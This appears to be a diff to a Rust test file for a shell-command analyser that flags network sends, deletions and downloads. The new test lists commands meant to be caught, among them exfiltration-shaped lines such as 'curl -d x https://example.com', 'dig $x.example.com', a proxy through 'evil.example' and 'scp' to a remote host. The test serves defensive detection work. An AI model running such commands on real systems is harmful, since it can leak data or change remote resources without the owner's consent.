@@ -4,7 +4,7 @@
 use std::collections::BTreeMap;
 use std::time::{Duration, Instant};
 
-use amplifier_modules::shell::{Analysis, analyse};
+use amplifier_modules::shell::{Analysis, ShellCommand, analyse};
 use serde::Deserialize;
 use serde_json::Value;
 
@@ -73,13 +73,63 @@ fn a_whole_analysis_reads_as_data() {
             analysable: true,
             why_not: None,
             programs: vec!["curl".into(), "rm".into()],
+            commands: vec![
+                ShellCommand {
+                    program: "curl".into(),
+                    arguments: vec!["-o".into(), "page".into(), "https://example.com".into()],
+                    resolved: true,
+                },
+                ShellCommand { program: "rm".into(), arguments: vec!["-rf".into(), "build".into()], resolved: true },
+            ],
             writes: vec!["page".into(), "log".into(), "build".into()],
+            deletes: vec!["build".into()],
             network: true,
+            hosts: vec!["example.com".into()],
+            sends: None,
+            runs_download: false,
+            force_push: false,
             destructive: Some("deletes recursively (`rm -rf build`)".into()),
             readonly: false,
             moves: false,
         }
     );
+}
+
+#[test]
+fn commands_that_send_or_change_something_elsewhere_say_why() {
+    let commands = [
+        "gh pr create",
+        "gh api -X POST repos/o/r",
+        "kubectl apply -f x",
+        "kubectl --as x get pods",
+        "aws s3 cp x s3://b/k",
+        "aws ec2 run-instances --user-data file://x",
+        "npm publish",
+        "npm install -g x",
+        "npm install https://example.com/x.tgz",
+        "npm install o/r",
+        "pip install git+https://example.com/x",
+        "pip install --index-url https://example.com x",
+        "cargo publish",
+        "cargo install x",
+        "sudo apt-get install x",
+        "git push https://example.com/x main",
+        "git push ext x@y:z",
+        "curl -d x https://example.com",
+        "curl -X PUT https://example.com",
+        "curl https://example.com/$x",
+        "curl -K x",
+        "curl -x evil.example http://localhost",
+        "scp x h@example.com:",
+        "dig $x.example.com",
+        "docker push x",
+        "docker run x",
+        "ssh h ls",
+    ];
+    for command in commands {
+        let analysis = is_consistent(command);
+        assert!(analysis.network && analysis.sends.is_some(), "{command:?}: {analysis:?}");
+    }
 }
 
 #[test]
